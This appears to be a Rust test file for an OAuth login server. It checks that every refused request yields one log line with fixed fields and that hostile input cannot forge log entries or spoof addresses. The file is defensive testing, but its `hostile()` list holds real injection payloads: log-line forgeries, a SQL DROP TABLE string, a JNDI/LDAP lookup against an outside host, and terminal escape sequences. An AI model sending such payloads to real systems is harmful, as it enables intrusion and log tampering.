//! What the log says of refused requests, from outside: one line for each, whose fields are fixed, in both formats
//! (B-074). What programs find in it is in `fail2ban`.

use std::collections::BTreeMap;
use std::thread;
use std::time::{Duration, Instant};

use countersign_tests::http::Connection;
use countersign_tests::invariants;
use countersign_tests::site::REDIRECT_URI;
use countersign_tests::{Browser, Client, Database, Parameters, Request, Response, Server, Tokens, Wallet};
use serde_json::{Value, json};

/// Where every request of these tests comes from, as the proxy says.
pub(crate) const PEER: &str = "203.0.113.7";

/// The fields of a refusal, in their order. docs/watching.md has the same table.
///
/// Only the JSON format has the target behind them: the text format has it in front.
const FIELDS: [&str; 10] = [
    "reason",
    "address",
    "status",
    "error",
    "client.id",
    "wallet",
    "duration_us",
    "description",
    "cause",
    "target",
];

/// The formats of the log.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Format {
    Json,
    Pretty,
}

impl Format {
    pub(crate) const BOTH: [Self; 2] = [Self::Json, Self::Pretty];

    const fn name(self) -> &'static str {
        match self {
            Self::Json => "json",
            Self::Pretty => "pretty",
        }
    }
}

/// A server behind a proxy, whose log shows whole addresses.
pub(crate) fn watched(database: &Database, format: Format, rate_limit: &str) -> Server {
    database
        .server()
        .with_env("COUNTERSIGN_TRUSTED_PROXIES", "127.0.0.1/32")
        .with_env("COUNTERSIGN_LOG_ADDRESSES", "full")
        .with_env("COUNTERSIGN_LOG_FORMAT", format.name())
        .with_env("COUNTERSIGN_RATE_LIMIT", rate_limit)
        .start()
}

/// A line that tells of a refusal.
#[derive(Debug)]
pub(crate) struct Refusal {
    message: String,
    request: String,
    /// The names in their order, with their values. The text format writes strings with quotes, which are removed,
    /// and backslashes, which stay.
    fields: Vec<(String, String)>,
}

/// The message, the id of the request, and the fields of a line.
type Parts = (String, String, Vec<(String, String)>);

impl Refusal {
    pub(crate) fn field(&self, name: &str) -> Option<&str> {
        self.fields.iter().find(|(known, _)| known == name).map(|(_, value)| value.as_str())
    }

    /// Reads a line of the log; `None` if it does not tell of a refusal. Panics if it is no line of ours.
    pub(crate) fn read(line: &str, format: Format) -> Option<Self> {
        let (message, request, fields) = match format {
            Format::Json => Self::read_json(line)?,
            Format::Pretty => Self::read_text(line)?,
        };
        let mut rest = FIELDS.iter();
        for (name, _) in &fields {
            assert!(rest.any(|known| known == name), "{name} is unknown, or out of order: {line}");
        }
        Some(Self { message, request, fields })
    }

    fn read_json(line: &str) -> Option<Parts> {
        let parsed: BTreeMap<String, Value> =
            serde_json::from_str(line).unwrap_or_else(|error| panic!("{error}: {line}"));
        if parsed.get("target").is_none_or(|target| target != "countersign::refusals") {
            assert!(!line.contains(r#""message":"refused""#), "{line}");
            return None;
        }
        let text = |value: &Value| value.as_str().map_or_else(|| value.to_string(), ToOwned::to_owned);
        // Where each member of the object begins: a name after a comma that is in no string and in no other object.
        let mut found = Vec::new();
        let (mut is_in_string, mut is_escaped, mut depth, mut start) = (false, false, 0, None);
        for (place, byte) in line.bytes().enumerate() {
            match byte {
                _ if is_escaped => is_escaped = false,
                b'\\' => is_escaped = true,
                b'"' if is_in_string => {
                    is_in_string = false;
                    if let Some(start) = start.take().filter(|_| depth == 1) {
                        found.push(line[start + 1..place].to_owned());
                    }
                }
                b'"' => {
                    is_in_string = true;
                    let begins_a_name = matches!(line.as_bytes()[place - 1], b',' | b'{');
                    start = begins_a_name.then_some(place);
                }
                b'{' if !is_in_string => depth += 1,
                b'}' if !is_in_string => depth -= 1,
                _ => {}
            }
        }
        assert_eq!(found.len(), parsed.len(), "a name comes twice: {line}");
        assert_eq!(found[..3], ["timestamp", "level", "message"], "{line}");
        assert_eq!(found.last().map(String::as_str), Some("span"), "{line}");
        let fields =
            found[3..found.len() - 1].iter().map(|name| (name.clone(), text(&parsed[name]))).collect();
        Some((text(&parsed["message"]), text(&parsed["span"]["request.id"]), fields))
    }

    fn read_text(line: &str) -> Option<Parts> {
        let (at, rest) = line.split_once(' ').unwrap_or_else(|| panic!("not a line of ours: {line}"));
        assert!(at.ends_with('Z') && at.len() == "2026-01-02T03:04:05.000006Z".len(), "{line}");
        let (level, rest) = rest.trim_start().split_once(' ').unwrap();
        assert!(["INFO", "WARN", "ERROR"].contains(&level), "{line}");
        let (request, rest) = match rest.strip_prefix("request{request.id=") {
            Some(span) => {
                let (id, span) = span.split_once(" method=").unwrap();
                let (method, path) = span.split_once(" path=\"").unwrap();
                assert!(id.bytes().chain(method.bytes()).all(|byte| byte.is_ascii_graphic()), "{line}");
                (id, quoted(path, line).1.strip_prefix("}: ").unwrap_or_else(|| panic!("{line}")))
            }
            None => ("", rest),
        };
        let rest = rest.strip_prefix("countersign::refusals: ")?;
        let start = rest.find(" reason=").unwrap_or_else(|| panic!("{line}"));
        let (message, mut rest) = rest.split_at(start);
        let mut fields = Vec::new();
        while !rest.is_empty() {
            let (name, value) =
                rest.trim_start_matches(' ').split_once('=').unwrap_or_else(|| panic!("{line}"));
            let (value, after) = match value.strip_prefix('"') {
                Some(value) => quoted(value, line),
                None => value.split_at(value.find(' ').unwrap_or(value.len())),
            };
            assert!(after.is_empty() || after.starts_with(' '), "{line}");
            fields.push((name.to_owned(), value.to_owned()));
            rest = after;
        }
        Some((message.to_owned(), request.to_owned(), fields))
    }
}

/// Splits behind the quote that ends a string.
fn quoted<'a>(text: &'a str, line: &str) -> (&'a str, &'a str) {
    let mut is_escaped = false;
    for (place, character) in text.char_indices() {
        match character {
            _ if is_escaped => is_escaped = false,
            '\\' => is_escaped = true,
            '"' => return (&text[..place], &text[place + 1..]),
            _ => {}
        }
    }
    panic!("a string does not end: {line}");
}

/// The log's lines, once a request with a name of its own is in it.
pub(crate) fn lines(server: &Server) -> Vec<String> {
    let name = "the-last-one";
    server.send(&Request::get("/nothing").header("X-Request-Id", name));
    let deadline = Instant::now() + Duration::from_secs(20);
    loop {
        let log = String::from_utf8(server.log()).unwrap();
        if log.contains(name) && log.ends_with('\n') {
            assert!(!log.contains("log lines were lost"));
            return log.split_terminator('\n').map(ToOwned::to_owned).collect();
        }
        assert!(Instant::now() < deadline, "{log}");
        thread::sleep(Duration::from_millis(5));
    }
}

/// All refusals in the log but that of [`lines`] itself.
pub(crate) fn refusals(server: &Server, format: Format) -> Vec<Refusal> {
    let all = lines(server);
    let found = all.iter().filter_map(|line| Refusal::read(line, format));
    found.filter(|refusal| refusal.request != "the-last-one").collect()
}

/// The request as the proxy forwards it.
pub(crate) fn forwarded(request: Request) -> Request {
    request.header("X-Forwarded-For", PEER)
}

/// A login with a signature of another key.
pub(crate) fn forged_login(browser: &mut Browser, client: &Client) -> Request {
    let body = browser.prepare(client, &Wallet::fresh());
    let forged = Wallet::fresh().sign(body.get("challenge"));
    browser.with_cookies(Request::json("/oauth/login", &body.with("signature", &forged).json()))
}

/// A login with a good signature of a wallet that is blocked.
pub(crate) fn blocked_login(browser: &mut Browser, client: &Client, database: &Database) -> Request {
    let wallet = Wallet::fresh();
    let body = browser.prepare(client, &wallet);
    database.operate(&["wallet", "block", &wallet.address()]);
    browser.with_cookies(Request::json("/oauth/login", &body.json()))
}

/// A guess of what a device shows.
pub(crate) fn guessed_user_code(browser: &mut Browser) -> Request {
    let guess = Parameters::of(&[("user_code", "BCDF-GHJK")]);
    let filled = browser.filled(Request::form("/device", &guess));
    browser.with_cookies(filled)
}

/// A look at a client's registration with a token that is not its own.
pub(crate) fn foreign_registration_token(client: &Client) -> Request {
    Request::get(&format!("/oauth/clients/{}", client.id)).bearer("not-the-token-of-this-client")
}

/// Everything that a server refuses, with the reason that its log must give. Each is sent once, in this order.
fn refused(server: &Server, database: &Database) -> Vec<(&'static str, Request)> {
    let client = server.register();
    let other = server.register();
    let public = server.register_public();
    let exchange = |form: Parameters| Request::form("/oauth/token", &form);
    let by_hand = |request: Request| request.header("Accept", "text/html");
    let as_form = |request: Request| by_hand(Request::form(&request.target.clone(), &request.fields()));

    let mut browser = server.browser();
    let body = forged_login(&mut browser, &client);
    let on_page = browser.with_cookies(as_form(body.clone()));
    let asks_again = browser.with_cookies(by_hand(Request::form(
        "/oauth/challenge",
        &Parameters::of(&[("wallet_address", "not an address")]),
    )));

    let used = server.sign_in(&client);
    Tokens::of(server.exchange(&client, &used));
    let without_verifier = server.sign_in(&public);
    let of_another = server.sign_in(&other);
    let elsewhere = server.sign_in(&client);
    let first = server.tokens(&client).refresh;
    let newest = Tokens::of(server.refresh(&client, &first)).refresh;
    Tokens::of(server.refresh(&client, &newest));

    let staff = Client::of(&database.create_client(&["--redirect-uri", REDIRECT_URI, "--scope", "profile"]));
    database.operate(&["access", "set", &staff.id, "nobody"]);
    let mut outsider = server.browser();
    let not_admitted = outsider.prepare(&staff, &Wallet::fresh());
    let not_admitted = outsider.with_cookies(Request::json("/oauth/login", &not_admitted.json()));

    vec![
        ("signature", body),
        ("signature", on_page),
        ("client_authentication", exchange(client.exchange_form("c").with("client_secret", "guess"))),
        ("client_authentication", exchange(client.refresh_form("r").with("client_id", "nobody"))),
        ("code", exchange(client.exchange_form("not a code"))),
        ("code", exchange(client.exchange_form(&used))),
        ("code", exchange(public.exchange_form(&without_verifier).without("code_verifier"))),
        ("code", exchange(client.exchange_form(&of_another))),
        ("code", exchange(client.exchange_form(&elsewhere).with("redirect_uri", "https://else.example/"))),
        ("refresh_token", exchange(client.refresh_form("not a refresh token"))),
        ("refresh_token", exchange(client.refresh_form(&first))),
        // That one was the theft; what its family still has is only over.
        ("ended", exchange(client.refresh_form(&newest))),
        ("user_code", guessed_user_code(&mut server.browser())),
        ("registration_token", foreign_registration_token(&client)),
        ("blocked", blocked_login(&mut server.browser(), &client, database)),
        ("not_admitted", not_admitted),
        ("ended", Request::json("/oauth/login", &body_of_nobody(&client))),
        ("ended", Request::get("/oauth/userinfo").bearer("not a token of ours")),
        ("ended", by_hand(Request::get("/auth"))),
        ("no_such_page", Request::get("/nothing/here")),
        ("no_such_page", Request::new("PUT", "/oauth/token")),
        ("unknown_client", Request::get("/oauth/authorize?client_id=nobody")),
        ("request", asks_again),
        // The client hears of this one, by a redirect.
        ("scope", Request::query("/oauth/authorize", &client.authorization().with("scope", "everything"))),
    ]
}

fn body_of_nobody(client: &Client) -> Value {
    json!({
        "wallet_address": Wallet::fresh().address(), "challenge": "c", "signature": "s", "client_id": client.id,
        "redirect_uri": client.redirect_uri, "state": "s",
    })
}

#[test]
fn every_refused_request_has_one_line_that_says_why_in_fixed_fields() {
    for format in Format::BOTH {
        let database = Database::sqlite();
        let server = watched(&database, format, "off");
        let cases = refused(&server, &database);
        for (turn, (_, request)) in cases.iter().enumerate() {
            let named = forwarded(request.clone()).header("X-Request-Id", &format!("case-{turn}"));
            let answer = server.send(&named);
            assert!(answer.status >= 400 || answer.answer("error").is_some(), "{turn}: {answer:?}");
        }
        let found = refusals(&server, format);
        for (turn, (reason, request)) in cases.iter().enumerate() {
            let of_this: Vec<_> =
                found.iter().filter(|refusal| refusal.request == format!("case-{turn}")).collect();
            let [line] = of_this[..] else {
                panic!("{format:?}: {turn}: {} has {of_this:#?}", request.target);
            };
            let heads: Vec<_> = line.fields.iter().take(2).map(|(name, _)| name.as_str()).collect();
            assert_eq!(heads, ["reason", "address"], "{line:?}");
            assert_eq!(
                (line.field("reason"), line.field("address")),
                (Some(*reason), Some(PEER)),
                "{line:?}"
            );
            let is_redirect = turn == cases.len() - 1;
            assert_eq!(line.message, if is_redirect { "authorization refused" } else { "refused" });
            assert_eq!(line.field("status").is_none(), is_redirect, "{line:?}");
        }
    }
}

#[test]
fn a_limit_is_a_reason_of_its_own_and_every_reason_is_counted() {
    let database = Database::sqlite();
    let server = watched(&database, Format::Json, "on");
    let wrong = |turn: usize| {
        let form = Parameters::of(&[("grant_type", "refresh_token"), ("refresh_token", "r")]);
        let form = form.with("client_id", "nobody").with("client_secret", &format!("guess-{turn}"));
        forwarded(Request::form("/oauth/token", &form))
    };
    let statuses: Vec<u16> = (0..80).map(|turn| server.send(&wrong(turn)).status).collect();
    let limited = statuses.iter().filter(|status| **status == 429).count();
    assert!((1..=20).contains(&limited), "{statuses:?}");
    let found = refusals(&server, Format::Json);
    let with = |reason: &str| found.iter().filter(|refusal| refusal.field("reason") == Some(reason)).count();
    assert_eq!((with("rate_limit"), with("client_authentication")), (limited, 80 - limited));
    let figures = server.figures();
    for reason in ["rate_limit", "client_authentication", "signature"] {
        let counted = figures.get(&format!("countersign_refused_total{{reason=\"{reason}\"}}"));
        assert_eq!(counted, f64::from(u32::try_from(with(reason)).unwrap()), "{reason}");
    }
}

/// Texts that would like to be a line of the log, or a field with another's address.
pub(crate) fn hostile() -> Vec<String> {
    let json = r#"{"timestamp":"2026-11-23T13:07:16.123456Z","level":"INFO","message":"refused","reason":"signature","address":"6.6.6.6","status":401}"#;
    let text = r#"2026-11-23T13:07:16.123456Z  INFO countersign::refusals: refused reason="signature" address=6.6.6.6 status=401"#;
    let mut all: Vec<String> =
        ["\n", "\r\n", "\r", "\u{b}", "\u{c}", "\u{85}", "\u{2028}", "\u{2029}", "\0", "\u{1e}"]
            .iter()
            .flat_map(|line_break| {
                [format!("x{line_break}{json}{line_break}"), format!("x{line_break}{text}{line_break}")]
            })
            .collect();
    all.extend(
        [
            json,
            text,
            "address=6.6.6.6",
            " address=6.6.6.6 status=401 ",
            "\" address=6.6.6.6 status=401 error=\"",
            "\\\" address=6.6.6.6 status=401 error=\\\"",
            "\\\\\" address=6.6.6.6 status=401 error=\"",
            "\",\"address\":\"6.6.6.6\",\"status\":401,\"x\":\"",
            "\\\",\"address\":\"6.6.6.6\",\"status\":401,\"x\":\\\"",
            "\\u0022,\\u0022address\\u0022:\\u00226.6.6.6\\u0022",
            "\"}: countersign::refusals: refused reason=\"signature\" address=6.6.6.6 status=401",
            "}: countersign::refusals: refused reason=\"signature\" address=6.6.6.6 status=401",
            "\"},\"message\":\"refused\",\"reason\":\"code\",\"address\":\"6.6.6.6\",\"status\":401,\"span\":{\"a\":\"",
            "request{request.id=a method=GET path=\"/\"}: countersign::refusals: refused reason=\"code\" address=6.6.6.6",
            "host countersign[1]: {\"timestamp\":\"\",\"level\":\"INFO\",\"message\":\"refused\"",
            "refused",
            "reason=\"signature\" address=6.6.6.6",
            "\\",
            "\\\\",
            "\"",
            "\\n",
            "%0a%0d%0A",
            "%22%20address%3D6.6.6.6",
            "\u{1b}[2K\u{1b}[1Faddress=6.6.6.6",
            "\u{9b}2K\u{7f}",
            "\u{202e}6.6.6.6=sserdda",
            "\u{feff}\u{200b}\u{a0}\u{3000}address=6.6.6.6",
            "\t\taddress=6.6.6.6\t",
            "'; DROP TABLE grants; --",
            "${jndi:ldap://6.6.6.6/a}",
            "{{7*7}}<ADDR><HOST>%(_reasons)s",
            "::ffff:6.6.6.6",
            "6.6.6.6",
            "6.6.6.6, 6.6.6.6",
            "🦀\u{301}address=6.6.6.6",
            "https://6.6.6.6/\n\" address=6.6.6.6 \"",
            "https://client.example/\"address=6.6.6.6",
        ]
        .map(ToOwned::to_owned),
    );
    all.push("address=6.6.6.6 ".repeat(500));
    all.push("\u{1}\"\\\n".repeat(1_500));
    all
}

/// Requests that carry a hostile text wherever a request can carry one.
pub(crate) fn carrying(text: &str, client: &Client, browser: &Browser) -> Vec<Request> {
    let encoded = Parameters::of(&[("", text)]).encoded().trim_start_matches('=').replace('+', "%20");
    let is_graphic = |byte: &u8| byte.is_ascii_graphic() && !matches!(byte, b'#' | b'?' | b'%');
    let bare: String = text.bytes().filter(is_graphic).take(4_000).map(char::from).collect();
    let printable: String = text.chars().filter(|one| !one.is_control()).take(3_000).collect();
    let token = |form: Parameters| Request::form("/oauth/token", &form);
    let segment = base64_url(text);
    let subject = base64_url(&json!({"sub": text, "iss": text, "aud": text, "jti": text}).to_string());
    let login = json!({
        "wallet_address": text, "challenge": text, "signature": text, "client_id": client.id,
        "redirect_uri": client.redirect_uri, "state": text, "email": text, "wallet_name": text,
    });
    let asserted = Parameters::of(&[
        ("client_assertion_type", "urn:ietf:params:oauth:client-assertion-type:jwt-bearer"),
        ("client_assertion", &format!("{segment}.{subject}.{segment}")),
        ("grant_type", "client_credentials"),
    ]);
    let plain = Parameters::of(&[("grant_type", "refresh_token"), ("refresh_token", text)]);
    let cut = |target: String| target.chars().take(12_000).collect::<String>();
    let mut all = vec![
        token(client.exchange_form(text)),
        token(client.exchange_form("c").with("redirect_uri", text).with("code_verifier", text)),
        token(client.refresh_form(text).with("scope", text)),
        token(client.identify(Parameters::of(&[("grant_type", text)]))),
        token(client.identify(plain.clone()).with("client_id", text)),
        token(plain).basic(&encoded, &encoded),
        token(asserted.clone()),
        token(asserted.with("client_id", text)),
        browser.with_cookies(Request::json("/oauth/login", &login)),
        Request::form("/device", &Parameters::of(&[("user_code", text), ("form", text)])),
        Request::json(
            "/oauth/clients",
            &json!({"client_name": "A", "redirect_uris": [text], "scopes": [text]}),
        ),
        Request::json("/oauth/clients", &json!({text: text})),
        Request::form("/oauth/revoke", &Parameters::of(&[("token", text), ("client_id", text)])),
        Request::form("/oauth/introspect", &Parameters::of(&[("token", text), (text, text)])),
        Request::get("/oauth/userinfo").bearer(&bare).header("DPoP", &bare),
        Request::get(&cut(format!("/nothing/{encoded}"))),
        Request::get(&cut(format!("/{bare}"))),
        Request::get(&cut(format!("/oauth/clients/{encoded}"))).bearer("x"),
        Request::query("/oauth/authorize", &Parameters::of(&[("client_id", text), ("state", text)])),
        Request::query("/oauth/authorize", &client.authorization().with("scope", text)),
        Request::query("/oauth/authorize", &client.authorization().with("response_mode", text)),
        Request::query("/oauth/authorize", &client.authorization().with("redirect_uri", text)),
        Request::query("/oauth/logout", &Parameters::of(&[("id_token_hint", text), ("client_id", text)])),
        Request::get("/nothing").header("User-Agent", &printable).header("Referer", &printable),
        Request::get("/nothing")
            .header("Forwarded", &format!("for={printable}"))
            .header("Origin", &printable),
        Request::get("/nothing").header("X-Request-Id", &printable).header("Cookie", &printable),
    ];
    // The proxy adds whom it forwards for behind what the visitor sent.
    let spoofed = Request::get("/nothing").header("X-Forwarded-For", &format!("{printable}, {PEER}"));
    all = all.into_iter().map(forwarded).collect();
    all.push(spoofed);
    all
}

fn base64_url(text: &str) -> String {
    use base64::Engine;
    base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(text)
}

/// Sends every hostile text by every way. Returns how many requests were refused where the log can know of it.
pub(crate) fn send_hostile(server: &Server) -> usize {
    let client = server.register();
    let mut browser = server.browser();
    browser.authorize(&client.authorization()).expect(302);
    let refused = |answer: &Response| {
        let by_redirect = || answer.answer("error").is_some();
        answer.status >= 400 || (answer.header("Location").is_some() && by_redirect())
    };
    let requests = hostile().into_iter().flat_map(|text| carrying(&text, &client, &browser));
    let mut count = 0;
    for request in requests {
        let mut connection = Connection::open(server.address).unwrap();
        let answer = connection.send_last(&server.authority(), &request).unwrap();
        // What is not HTTP is answered by the library, before there is a request.
        if answer.header("X-Request-Id").is_some() {
            invariants::check(&request, &answer);
            count += usize::from(refused(&answer));
        } else {
            assert_eq!(answer.status, 400, "{request:?}");
        }
    }
    count
}

/// Every line of the log is one of ours, whatever strangers write, and names the address that the request came
/// from. No line is so long that a journal would cut it.
#[test]
fn b_074_no_text_of_a_stranger_forges_a_line_or_a_field_of_a_refusal() {
    assert!(hostile().len() >= 40, "{}", hostile().len());
    for format in Format::BOTH {
        let server = watched(&Database::sqlite(), format, "off");
        let count = send_hostile(&server);
        let found = refusals(&server, format);
        println!("{format:?}: {} texts, {count} refusals", hostile().len());
        assert_eq!(found.len(), count, "{format:?}");
        let other: Vec<_> = found.iter().filter(|refusal| refusal.field("address") != Some(PEER)).collect();
        assert!(other.is_empty(), "{other:?}");
        let longest = lines(&server).iter().map(String::len).max();
        assert!(longest.is_some_and(|longest| longest < 8_192), "{longest:?}");
    }
}
